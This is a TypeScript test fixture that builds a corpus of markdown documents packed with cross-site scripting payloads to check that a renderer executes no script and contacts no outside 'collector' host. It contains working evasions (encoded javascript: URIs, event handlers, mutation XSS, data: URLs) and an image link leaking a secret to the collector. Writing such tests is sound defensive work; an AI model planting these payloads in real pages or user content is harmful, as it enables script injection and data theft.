/**
 * Markdown documents a hostile model (or a page it quotes) could write. Every payload that ran would call
 * `__xss('<name>')` (or `alert`), and every resource it could load lives on `collector`, a host the page
 * under test must never contact. Rendering any prefix of any document must run nothing and fetch nothing.
 */
export interface XssDocument {
  name: string;
  markdown: string;
}

const base64 = (text: string) => Buffer.from(text).toString('base64');

export function xssCorpus(collector: string): XssDocument[] {
  const documents: Record<string, string> = {
    'script tags': `Hello <script>__xss('script')</script> and <SCRIPT SRC=${collector}/x.js></SCRIPT>\n\n<script>\n__xss('script block')\n</script>\n`,
    'unclosed script': `Before\n\n<script>__xss('unclosed script')`,
    'inline event handlers': `<img src=x onerror="__xss('img onerror')"> <body onload=__xss('body')> <details open ontoggle=__xss('details')>x</details>\n<input autofocus onfocus=__xss('input')> <video><source onerror=__xss('video')></video> <marquee onstart=__xss('marquee')>m</marquee>`,
    'unclosed tag with handler': `Text <img src=x onerror=__xss('unclosed img') `,
    'svg onload': `<svg onload=__xss('svg onload')><circle r=5 /></svg>\n\n<svg><script>__xss('svg script')</script></svg>`,
    'svg xlink:href': `<svg><a xlink:href="javascript:__xss('xlink')"><text x=0 y=10>click</text></a><use href="${collector}/sprite.svg#a"/></svg>`,
    'iframe object embed': `<iframe src="javascript:__xss('iframe')"></iframe><iframe srcdoc="<script>parent.__xss('srcdoc')</script>"></iframe>\n<object data="javascript:__xss('object')"></object><embed src="${collector}/embed.swf">`,
    'form and button': `<form action="javascript:__xss('form')"><button formaction="javascript:__xss('formaction')">go</button></form>`,
    'meta refresh and base': `<meta http-equiv="refresh" content="0;url=javascript:__xss('meta')">\n<base href="${collector}/">\n[relative](page.html)`,
    'style and url()': `<style>@import url(${collector}/import.css); body { background: url(${collector}/bg.png) }</style>\n<div style="background-image:url(${collector}/div.png)">styled</div>\n<link rel=stylesheet href=${collector}/link.css>`,
    'html comments': `Visible <!-- <script>__xss('comment')</script> --> text <!-- unclosed <img src=x onerror=__xss('comment img')>`,
    'mutation xss': `<math><mtext><table><mglyph><style><img src=x onerror=__xss('mxss')></style></mglyph></table></mtext></math>\n<noscript><p title="</noscript><img src=x onerror=__xss('noscript')>"></noscript>`,
    'raw anchor': `<a href="javascript:__xss('raw anchor')">raw</a> <a href="${collector}/ok">ok</a>`,
    'markdown link javascript': `[plain](javascript:__xss('plain'))`,
    'javascript case': `[upper](JAVASCRIPT:__xss('upper')) [mixed](JaVaScRiPt:__xss('mixed'))`,
    'javascript whitespace': `[lead]( javascript:__xss('lead')) [angle](<java script:__xss('space')>) [tab](<java\tscript:__xss('tab')>)`,
    'javascript newline': `[nl](<java\nscript:__xss('newline')>) [cr](java\rscript:__xss('cr'))`,
    'javascript control characters': `[nul](\u0000javascript:__xss('nul')) [soh](\u0001javascript:__xss('soh')) [zwsp](java\u200bscript:__xss('zwsp'))`,
    'javascript entities': `[dec](&#106;avascript:__xss('dec')) [hex](&#x6A;avascript:__xss('hex')) [padded](&#0000106;avascript:__xss('padded'))`,
    'javascript colon entity': `[colon](javascript&colon;__xss('colon')) [tab entity](java&Tab;script:__xss('tab entity')) [newline entity](java&NewLine;script:__xss('nl entity'))`,
    'javascript percent-encoding': `[pct colon](javascript%3A__xss('pct colon')) [pct j](%6Aavascript:__xss('pct j')) [pct all](%6A%61%76%61%73%63%72%69%70%74%3A__xss('pct all'))`,
    'fullwidth javascript': `[wide](ｊａｖａｓｃｒｉｐｔ:__xss('wide'))`,
    'vbscript and livescript': `[vb](vbscript:msgbox('x')) [VB](VBScript:__xss('vb')) [live](livescript:__xss('live'))`,
    'data text/html': `[data](data:text/html,<script>__xss('data')</script>) [b64](data:text/html;base64,${base64(`<script>__xss('b64')</script>`)})`,
    'data svg image': `![svg](data:image/svg+xml,<svg onload=__xss('data svg')>) ![svg64](data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="__xss('svg64')"/>`)})`,
    'image javascript': `![js](javascript:__xss('image js')) ![vb](vbscript:__xss('image vb'))`,
    'image remote': `![pixel](${collector}/pixel.png?leak=secret) ![protocol relative](//${new URL(collector).host}/pr.png)`,
    'link schemes': `[file](file:///etc/passwd) [chrome](chrome://settings) [ext](chrome-extension://abc/options.html) [blob](blob:${collector}/x) [about](about:blank) [fs](filesystem:${collector}/x)`,
    'relative links': `[root](/sidepanel.html) [dot](./options.html) [proto](//${new URL(collector).host}/x) [query](?x=1)`,
    autolinks: `<javascript:__xss('autolink')> <JAVASCRIPT:__xss('autolink upper')> <vbscript:__xss('autolink vb')> <data:text/html,<b>x</b>> <${collector}/auto> www.example.com`,
    'reference definitions': `[click][evil] and ![img][evilimg] and [collapsed][]\n\n[evil]: javascript:__xss('reference')\n[evilimg]: javascript:__xss('reference image')\n[collapsed]: <data:text/html,<script>__xss('collapsed')</script>>`,
    'reference with title': `[t][x]\n\n[x]: javascript:__xss('ref title') "title\\" onmouseover=__xss('title')"`,
    'link title quotes': `[quoted](${collector}/ok "a\\" onmouseover=\\"__xss('quote')") [single](${collector}/ok 'x\\' onfocus=__xss(1)')`,
    footnotes: `Note[^1] and[^a].\n\n[^1]: [foot](javascript:__xss('footnote'))\n[^a]: <img src=x onerror=__xss('footnote img')>`,
    'table cells': `| a | b |\n|---|--:|\n| <img src=x onerror=__xss('cell')> | [x](javascript:__xss('cell link')) |\n| <script>__xss('cell script')</script> | ![i](javascript:__xss('cell img')) |`,
    'lists and quotes': `- [ ] <svg onload=__xss('task')>\n- [x] [t](javascript:__xss('task link'))\n\n> <iframe src=javascript:__xss('quote frame')>\n> [q](vbscript:__xss('quote link'))`,
    'headings and emphasis': `# <img src=x onerror=__xss('h1')>\n## **[b](javascript:__xss('bold link'))** _<script>__xss('em')</script>_`,
    'code is text':
      "Inline `<script>__xss('code span')</script>` and\n\n```html\n<img src=x onerror=__xss('fence')>\n<script>__xss('fence script')</script>\n```\n\n```\n[x](javascript:__xss('fence link'))\n",
    'nested link tricks': `[[inner](javascript:__xss('inner'))](${collector}/outer) [![img](javascript:__xss('img in link'))](javascript:__xss('link around img'))`,
    'escapes and brackets': `[esc](javascript\\:__xss('esc')) [paren](javascript:__xss\\('paren'\\)) [nested](javascript:(__xss('nested')))`,
    'html entities in html': `<a href="&#106;avascript:__xss('entity anchor')">e</a> <img src=x onerror="&#95;&#95;xss('entity handler')">`,
    'javascript in http disguise': `[pseudo](http://javascript:__xss('pseudo')@${new URL(collector).host}/) [mail](mailto:x@example.org?body=<script>__xss('mail')</script>)`,
    'alert fallbacks': `<img src=x onerror=alert('alert')> [a](javascript:alert('alert link')) <svg/onload=confirm('confirm')>`,
  };
  return Object.entries(documents).map(([name, markdown]) => ({ name, markdown }));
}
